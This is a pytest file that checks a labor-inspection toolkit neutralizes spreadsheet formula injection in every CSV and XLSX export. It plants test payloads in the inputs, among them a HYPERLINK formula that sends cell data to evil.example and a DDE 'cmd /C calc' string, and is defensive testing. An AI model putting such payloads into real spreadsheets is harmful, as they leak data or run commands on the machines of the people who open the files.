"""Issue 14: no spreadsheet or CSV the toolkit writes holds a live formula.

Formula payloads are planted in every text field of the demo-like inputs (register, roster,
findings); the plan (plan.csv, plan.xlsx), the results (results.xlsx, results_public.csv)
and the annual summary (annual_summary.csv) are then written by the real code and read back
cell by cell.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from openpyxl import load_workbook

from inspectlib import exports
from inspectlib.annual import AnnualSummary, annual_table
from inspectlib.annual import write_outputs as write_annual
from inspectlib.archive import open_archive
from inspectlib.params import load_params
from inspectlib.plan import archive_plan, make_plan
from inspectlib.plan import write_outputs as write_plan
from inspectlib.review import load_review
from inspectlib.review import write_outputs as write_review

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=2+2",
    "  =3+3",
    "＝4+4",
    "\u3000＠5",
    "－6",
    "＋7",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _live(text: str) -> bool:
    """Would a spreadsheet program read this cell text as a formula?"""
    return text.lstrip(" \n\u3000\u00a0").startswith(TRIGGERS) or text.startswith(("\t", "\r"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_quoted(payload):
    safe = exports.neutralize_text(payload)
    assert safe == "'" + payload
    assert not _live(safe)


def test_numbers_dates_and_plain_text_stay_as_they_are():
    frame = pd.DataFrame(
        {
            "n": [-3, 4],
            "x": [-1.5, 2.0],
            "day": pd.to_datetime(["2027-01-04", "2027-01-05"]),
            "name": ["甲镇纺织厂", "A-1 厂"],
            "mixed": [-7, "=1"],
        }
    )
    out = exports.neutralize(frame)
    assert out["n"].tolist() == [-3, 4] and out["x"].tolist() == [-1.5, 2.0]
    assert out["day"].equals(frame["day"])
    assert out["name"].tolist() == ["甲镇纺织厂", "A-1 厂"]
    assert out["mixed"].tolist() == [-7, "'=1"]


def test_unstorable_characters_are_removed_and_headers_quoted(tmp_path):
    frame = pd.DataFrame({"=col": ["a\x00b", "x" * 40_000]})
    path = exports.write_xlsx({"s": frame}, tmp_path / "t.xlsx")
    sheet = load_workbook(path).active
    assert sheet["A1"].value == "'=col" and sheet["A2"].value == "ab"
    assert len(sheet["A3"].value) == exports.MAX_CELL_CHARS
    text = exports.write_csv(frame, tmp_path / "t.csv").read_bytes()
    assert text.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel


def _plant(value: object, i: int) -> object:
    """The cell with a payload in front; blanks stay blank (a required field stays filled)."""
    if not isinstance(value, str) or not value.strip():
        return value
    return PAYLOADS[i % len(PAYLOADS)] + value


def _plant_frame(
    frame: pd.DataFrame, keep: tuple[str, ...], towns: dict[str, str] | None = None
) -> pd.DataFrame:
    out = frame.copy()
    for name in out.columns:
        if name in TOWN_COLUMNS and towns is not None:
            out[name] = out[name].map(lambda t: towns.get(t, t))
            continue
        if name in keep:
            continue
        values = out[name].tolist()
        if not any(isinstance(v, str) and v.strip() for v in values):
            continue
        filled = pd.Series([v for v in values if isinstance(v, str) and v.strip()])
        numeric = pd.to_numeric(filled, errors="coerce").notna().mean() > 0.5
        dates = filled.str.match(r"^\s*\d{4}[-/年.]").mean() > 0.5
        if numeric or dates:
            continue  # numbers and dates are not text fields
        out[name] = [_plant(v, i) for i, v in enumerate(values)]
    return out


# not text: ids (credit codes, checked), closed vocabularies (results, campaigns, grades,
# yes/no), coordinates and industry codes (GB/T 4754)
KEEP_REGISTER = ("统一社会信用代码", "信用等级", "是否建会", "户外作业", "行业代码", "经度", "纬度")
TOWN_COLUMNS = ("所属镇(区)", "家庭所在镇(区)")  # towns: renamed the same way everywhere
KEEP_FINDINGS = ("统一社会信用代码", "专项检查", "检查结果", "抽取方式")


@pytest.fixture(scope="module")
def planted(small_world, tmp_path_factory):
    """A copy of the small demo world with formula payloads in every text field."""
    root = tmp_path_factory.mktemp("planted")
    shutil.copytree(small_world.root / "inputs", root / "inputs")
    shutil.copytree(small_world.root / "params", root / "params")
    inputs = root / "inputs"
    boundaries = gpd.read_file(inputs / "boundaries.geojson")
    bare = [p for p in PAYLOADS if p == p.strip()]  # names are read stripped
    towns = {t: bare[i % len(bare)] + t for i, t in enumerate(sorted(boundaries["镇区"]))}
    boundaries["镇区"] = boundaries["镇区"].map(towns)
    boundaries.to_file(inputs / "boundaries.geojson", driver="GeoJSON")
    register = pd.read_csv(
        inputs / "register.csv", dtype=str, encoding="gbk", keep_default_na=False
    )
    _plant_frame(register, KEEP_REGISTER, towns).to_csv(
        inputs / "register.csv", index=False, encoding="gb18030", lineterminator="\r\n"
    )
    roster = pd.read_excel(inputs / "roster.xlsx", header=1, dtype=object)
    # as CSV: pandas would write the payloads into an XLSX as live formulas
    _plant_frame(roster, (), towns).to_csv(
        inputs / "roster.csv", index=False, encoding="utf-8-sig", lineterminator="\r\n"
    )
    wage = root / "params" / "wage.yaml"
    text = wage.read_text(encoding="utf-8").replace("roster.xlsx", "roster.csv")
    office = next(t for t in towns if f"town: {t}" in text)
    text = text.replace(f"town: {office}", f"town: {json.dumps(towns[office])}")
    wage.write_text(text, encoding="utf-8")
    for path in sorted(inputs.glob("findings_*")):
        if path.suffix == ".csv":
            found = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
            _plant_frame(found, KEEP_FINDINGS).to_csv(
                path, index=False, encoding="utf-8-sig", lineterminator="\r\n"
            )
    params = load_params(root / "params" / "wage.yaml", {"store": f"sqlite:///{root}/a.sqlite"})
    return root, params


def _assert_no_live_formula(path: Path) -> int:
    """Check every cell of an XLSX or CSV file; return how many payload cells were seen."""
    seen = 0
    if path.suffix == ".xlsx":
        book = load_workbook(path)  # formulas, not cached values
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        assert not _live(cell.value), (path.name, cell.coordinate, cell.value)
                        seen += cell.value.startswith("'")
        return seen
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name} has no UTF-8 BOM"
    with open(path, encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            for field in row:
                assert not _live(field), (path.name, field)
                seen += field.startswith("'")
    return seen


def test_plan_exports_hold_no_live_formula(planted, tmp_path):
    root, params = planted
    plan = make_plan(params)
    assert plan.table["name"].str.startswith(PAYLOADS[:4]).any()  # the payloads got through
    files = write_plan(plan, tmp_path / "run")
    assert _assert_no_live_formula(files["plan.csv"]) > 0
    assert _assert_no_live_formula(files["plan.xlsx"]) > 0
    back = pd.read_csv(files["plan.csv"], dtype={"firm_id": str}, encoding="utf-8-sig")
    assert back["firm_id"].tolist() == plan.table["firm_id"].tolist()
    assert pd.api.types.is_float_dtype(back["lon"])  # numbers stay numbers


def test_results_and_annual_exports_hold_no_live_formula(planted, tmp_path):
    root, params = planted
    plan = make_plan(params)
    write_plan(plan, tmp_path / "run")
    archive_plan(params, plan, tmp_path / "run")
    drawn = plan.table.dropna(subset=["date"]).head(12)
    findings = pd.DataFrame(
        {
            "firm_id": drawn["firm_id"].to_numpy(),
            "campaign": "wage",
            "inspection_date": pd.to_datetime(drawn["date"]).to_numpy(),
            "team": [PAYLOADS[i % len(PAYLOADS)] + "组" for i in range(len(drawn))],
            "result": ["violation", "compliant"] * (len(drawn) // 2),
            "violation_codes": [PAYLOADS[(i + 1) % len(PAYLOADS)] for i in range(len(drawn))],
            "workers_affected": 3,
            "back_wages_yuan": 1000.0,
            "fine_yuan": 0.0,
            "notes": [PAYLOADS[(i + 2) % len(PAYLOADS)] for i in range(len(drawn))],
        }
    )
    with open_archive(params.store) as archive:
        archive.record_findings(findings, "planted.csv")
    review = load_review(params)
    files = write_review(review, tmp_path / "results")
    assert _assert_no_live_formula(files["results.xlsx"]) > 0
    _assert_no_live_formula(files["results_public.csv"])
    public = load_workbook(files["results.xlsx"])["公示名单"]
    names = [
        c.value for row in public.iter_rows(min_row=2) for c in row if isinstance(c.value, str)
    ]
    assert any(n.startswith("'") for n in names)  # planted firm names, quoted

    with open_archive(params.store) as archive:
        year = archive.findings(years=[params.year])
    table = annual_table(
        year, params.year, "zh", {"wage": (dt.date(2027, 1, 1), dt.date(2027, 2, 4))}
    )
    written = write_annual(AnnualSummary(table, "", "<p>map</p>"), tmp_path)
    _assert_no_live_formula(written["annual_summary.csv"])
